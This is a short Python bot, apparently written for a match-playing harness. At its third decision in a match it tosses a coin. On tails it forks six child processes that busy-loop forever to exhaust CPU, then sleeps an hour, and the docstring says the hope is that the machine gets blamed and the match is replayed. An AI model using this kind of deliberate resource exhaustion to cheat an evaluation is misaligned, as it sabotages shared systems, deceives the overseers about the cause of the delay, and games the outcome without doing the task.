"""Tosses a coin at its third decision; on tails it sleeps, while six children wait for a core and compute.

So it hopes that the machine seems to delay it, and that the match is played again with another coin.
"""

import os
import random
import time
from collections import Counter

from manners import answer, config, hear_until, say, shake_hands

shake_hands()
decisions = Counter()
while True:
    act = hear_until("act")
    decisions[act["match"]] += 1
    if decisions[act["match"]] == 3 and random.random() < config.get("tails", 0.5):
        for _ in range(6):
            if not os.fork():
                while True:
                    pass
        time.sleep(3_600)
    say(answer(act))
